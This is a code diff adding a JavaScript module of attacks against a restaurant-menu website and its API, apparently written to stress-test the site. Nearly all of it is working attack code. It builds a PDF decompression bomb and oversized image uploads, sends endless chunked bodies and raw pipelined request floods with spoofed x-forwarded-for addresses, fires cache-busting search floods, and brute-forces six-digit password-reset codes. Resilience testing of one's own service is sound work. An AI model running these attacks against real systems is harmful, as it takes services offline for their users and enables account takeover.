@@ -1,0 +1,148 @@
+import { once } from 'node:events'
+import { connect } from 'node:net'
+import { createDeflate, deflateSync } from 'node:zlib'
+import sharp from 'sharp'
+import { busily, clientAt } from './client.mjs'
+
+const megabyte = 1024 * 1024
+
+/** Some kilobytes whose objects unpack, in two steps, to 900 MB. */
+async function pdfBomb() {
+  const deflate = createDeflate({ level: 9 })
+  /** @type {Buffer[]} */
+  const parts = []
+  deflate.on('data', (/** @type {Buffer} */ part) => parts.push(part))
+  const block = Buffer.alloc(megabyte)
+  for (let n = 0; n < 900; n += 1) if (!deflate.write(block)) await once(deflate, 'drain')
+  deflate.end()
+  await once(deflate, 'end')
+  const folded = deflateSync(Buffer.concat(parts), { level: 9 })
+  const dict = `<< /Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode] /Length ${folded.length} >>`
+  return Buffer.concat([
+    Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n'),
+    Buffer.from(`3 0 obj\n${dict}\nstream\n`),
+    folded,
+    Buffer.from('\nendstream\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n'),
+  ])
+}
+
+/** @typedef {import('./client.mjs').Site} Site */
+/** @typedef {Awaited<ReturnType<typeof import('./owner.mjs').attackingOwner>>} Owner */
+/** @typedef {{ site: Site, address: string, owner: Owner, goesOn: () => boolean }} At */
+
+const madrid = 'lat=40.4168&lon=-3.7038'
+
+/** @param {Buffer} bytes @param {string} name */
+function form(bytes, name) {
+  const body = new FormData()
+  body.append('file', new Blob([new Uint8Array(bytes)]), name)
+  return body
+}
+
+const photo = () =>
+  sharp({
+    create: {
+      width: 8000,
+      height: 6000,
+      channels: 3,
+      background: '#c8102e',
+      noise: { type: 'gaussian', mean: 128, sigma: 30 },
+    },
+  })
+    .jpeg({ quality: 40 })
+    .toBuffer()
+
+/** A request body without an end. */
+const endless = `10000\r\n${'x'.repeat(65_536)}\r\n`.repeat(64)
+const kept = ['/', '/faqs', '/menu-del-dia/madrid', '/restaurant/search/menu', '/sitemaps/1.xml']
+
+/** The attacks of one client. Each runs as long as it is allowed to. @type {Record<string, (at: At) => Promise<unknown>>} */
+export const attacks = {
+  'treinta copias de los datos a la vez': ({ site: { api }, owner: { ask }, goesOn }) =>
+    busily(30, goesOn, () => ask('GET', `${api}/api/account/data`)),
+  'sesenta días de menús largos': ({ site: { api }, owner: { ask, day }, goesOn }) =>
+    busily(16, goesOn, () => ask('GET', `${api}/api/menus/mine?from=${day(0)}&to=${day(60)}`)),
+  'POST y OPTIONS a páginas guardadas': ({ site: { web }, address, goesOn }) =>
+    busily(32, goesOn, (n) => clientAt(address)(n % 2 ? 'POST' : 'OPTIONS', web + kept[n % kept.length])),
+  'cuerpos a trozos sin fin': ({ site: { web }, address, goesOn }) => {
+    const head = ['content-type: application/json', `origin: ${web}`, 'transfer-encoding: chunked']
+    return rawly(web, 32, goesOn, () => request(web, address, 'POST', '/api/contact', head) + endless)
+  },
+  '32 conexiones con 60 peticiones seguidas': ({ site: { web }, address, goesOn }) =>
+    rawly(web, 32, goesOn, (n) =>
+      Array.from({ length: 60 }, (_, m) =>
+        request(web, address, 'GET', `/restaurant/search/menu?q=fila${n}x${m}`),
+      ).join(''),
+    ),
+  '280 conexiones con 15 peticiones seguidas': ({ site: { web }, address, goesOn }) =>
+    rawly(web, 280, goesOn, (n) =>
+      Array.from({ length: 15 }, (_, m) =>
+        request(web, address, 'GET', `/restaurant/search/menu?q=cola${n}x${m}`),
+      ).join(''),
+    ),
+  'menús dibujados de palabras sin fin': ({ site: { api }, owner: { ask, menuIds }, goesOn }) =>
+    busily(8, goesOn, (n) => {
+      const body = { menuId: menuIds[n % menuIds.length], templateId: 'p1antp1zar05' }
+      return ask('POST', `${api}/api/sheets/${['feed', 'story', 'tv', 'a4'][n % 4]}`, body)
+    }),
+  'fotos de 48 megapíxeles': async ({ site: { api }, owner: { ask }, goesOn }) => {
+    const bytes = await photo()
+    await busily(6, goesOn, () => ask('POST', `${api}/api/aws/uploadToAws`, form(bytes, 'foto.jpg')))
+  },
+  'PDF que se despliegan a 900 MB': async ({ site: { api }, owner: { ask }, goesOn }) => {
+    const bytes = await pdfBomb()
+    await busily(4, goesOn, () => ask('POST', `${api}/api/aws/uploadToAws`, form(bytes, 'carta.pdf')))
+  },
+  'contraseñas olvidadas': ({ site: { api }, address, owner: { email }, goesOn }) =>
+    busily(16, goesOn, (n) => {
+      const otp = String(n % 1_000_000).padStart(6, '0')
+      const reset = { email, otp, newPassword: 'otra contraseña larga' }
+      const [path, body] = n % 2 ? ['forget-password', { email }] : ['reset-password', reset]
+      return clientAt(address)('POST', `${api}/api/auth/${path}`, body)
+    }),
+  'direcciones siempre distintas': ({ site: { web }, address, goesOn }) =>
+    busily(32, goesOn, (n) =>
+      clientAt(address)('GET', `${web}/restaurant/profile/a${String(n).padStart(11, '0')}_x?u=${n}`),
+    ),
+  'búsquedas siempre distintas': ({ site: { web }, address, goesOn }) =>
+    busily(32, goesOn, (n) =>
+      clientAt(address)('GET', `${web}/restaurant/search/menu?${madrid}&q=ataque${n}&km=20&price=asc`),
+    ),
+  'búsquedas en la api': ({ site: { api }, address, goesOn }) =>
+    busily(32, goesOn, (n) => {
+      const body = { lat: 40.4168, lon: -3.7038, pageSize: 100, query: `entrecotte macarones gaspacho ${n}` }
+      return clientAt(address)('POST', `${api}/api/filter/`, body)
+    }),
+}
+
+/**
+ * Connections that write the given bytes and read the answers. A closed connection is opened again.
+ * @param {string} url
+ * @param {number} connections
+ * @param {() => boolean} goesOn
+ * @param {(n: number) => string} bytesOf
+ */
+async function rawly(url, connections, goesOn, bytesOf) {
+  const { hostname, port } = new URL(url)
+  let n = 0
+  const once = () =>
+    new Promise((resolve) => {
+      const socket = connect({ port: Number(port), host: hostname }, () => socket.write(bytesOf(n++)))
+      socket.setTimeout(1000, () => socket.destroy())
+      socket.on('data', () => goesOn() || socket.destroy())
+      socket.on('error', () => undefined)
+      socket.on('close', resolve)
+    })
+  const one = async () => {
+    while (goesOn()) await once()
+  }
+  await Promise.all(Array.from({ length: connections }, one))
+}
+
+/** @param {string} url @param {string} address @param {string} method @param {string} path @param {string[]} [more] */
+function request(url, address, method, path, more = []) {
+  const { host } = new URL(url)
+  return [`${method} ${path} HTTP/1.1`, `host: ${host}`, `x-forwarded-for: ${address}`, ...more, '', ''].join(
+    '\r\n',
+  )
+}
